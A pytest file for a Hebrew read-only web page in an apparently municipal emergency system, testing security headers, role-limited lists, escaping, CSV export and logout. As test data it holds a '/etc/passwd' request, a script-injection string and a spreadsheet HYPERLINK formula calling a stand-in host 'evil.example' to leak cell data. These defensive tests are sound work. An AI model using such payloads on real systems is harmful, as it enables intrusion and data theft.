"""The read-only page over HTTP (local mode): what a role may see, escaping, downloads, security headers."""

import re

from serving.audit import AuditLog
from tests.emergency.helpers import MUNI, csrf_of, local_page, post_form


def picker_options(page: str) -> list[str]:
    """The lists offered, in order: one link each (choosing one switches at once, no second button)."""
    picker = page[page.index('<nav class="lists"'):]
    picker = picker[:picker.index("</nav>")]
    return re.findall(r'<a href="/\?q=([a-z_]+)"', picker)


def test_page_is_hebrew_rtl_with_strict_headers(home):
    with local_page(home) as client:
        page = client.get("/")
        css = client.get("/style.css")
        missing = client.get("/etc/passwd")
    assert page.status_code == 200 and '<html lang="he" dir="rtl">' in page.text
    assert picker_options(page.text) == ["evacuation_assistance", "power_dependent", "alone_without_support",
                                        "yachad_not_located", "household"]
    csp = page.headers["content-security-policy"]
    assert "default-src 'none'" in csp and "script-src" not in csp and "<script" not in page.text
    assert page.headers["cache-control"] == "no-store" and page.headers["x-content-type-options"] == "nosniff"
    assert css.status_code == 200 and css.headers["content-type"].startswith("text/css")
    assert missing.status_code == 404 and missing.headers["content-security-policy"] == csp


def test_a_role_sees_only_its_lists(fresh_home):
    with local_page(fresh_home, role="welfare", subject="yossi") as client:
        page = client.get("/")
        denied = post_form(client, "/run", {"q": "evacuation_assistance"})
    # welfare is not given the evacuation and power lists: not even as counts
    assert picker_options(page.text) == ["alone_without_support", "yachad_not_located", "household"]
    assert denied.status_code == 403
    denial = next(e for e in AuditLog.of(MUNI, fresh_home).entries() if e.outcome == "denied")
    assert (denial.subject, denial.role, denial.channel, denial.peer) == ("yossi", "welfare", "web", "127.0.0.1")


def test_typed_text_and_stored_names_are_escaped(home):
    with local_page(home) as client:
        typed = post_form(client, "/run", {"q": "evacuation_assistance", "streets": "<script>alert(1)</script>"})
        listing = post_form(client, "/run", {"q": "evacuation_assistance", "streets": "סוקולוב"}).text
    assert "<script>" not in typed.text and "&lt;script&gt;alert(1)&lt;/script&gt;" in typed.text
    assert '=HYPERLINK(&#34;http://evil.example/?x=&#34;&amp;A1,&#34;לחץ&#34;)' in listing
    assert 'HYPERLINK("' not in listing


def test_bad_parameters_show_an_error_page(home):
    with local_page(home) as client:
        bad = post_form(client, "/run", {"q": "household", "house_number": "12"})
    assert bad.status_code == 400 and 'role="alert"' in bad.text


def test_export_downloads(fresh_home):
    with local_page(fresh_home) as client:
        download = post_form(client, "/export", {"q": "yachad_not_located", "streets": "סוקולב", "format": "csv"})
        bad = post_form(client, "/export", {"q": "yachad_not_located", "format": "pdf"})
    assert download.status_code == 200 and download.headers["content-type"].startswith("text/csv")
    assert download.headers["content-disposition"].startswith('attachment; filename="yachad_not_located_6600_')
    assert download.content.startswith(b"\xef\xbb\xbf")
    preamble, table = download.content.decode("utf-8-sig").split("\r\n\r\n", 1)
    assert table.count("\r\n") == 4                        # the header and three residents
    assert "יחד מדווחת על 3 תושבים" in preamble and "יחד: נתונים נכונים ל-" in preamble
    assert bad.status_code == 400
    entries = AuditLog.of(MUNI, fresh_home).entries()
    [granted] = [e for e in entries if e.query == "yachad_not_located" and e.outcome == "ok"]
    assert (granted.row_count, granted.exports, granted.channel, granted.subject) == (3, "csv", "web", "dana")
    [refused] = [e for e in entries if e.reason == "export_format"]
    assert (refused.outcome, refused.peer) == ("invalid", "127.0.0.1")


def test_logout_ends_the_session(home):
    with local_page(home) as client:
        token = csrf_of(client)
        out = client.post("/logout", data={"csrf_token": token})
        after = client.get("/")
    assert out.status_code == 200 and "יצאת מהמערכת" in out.text
    assert after.status_code == 401 and "<table" not in after.text
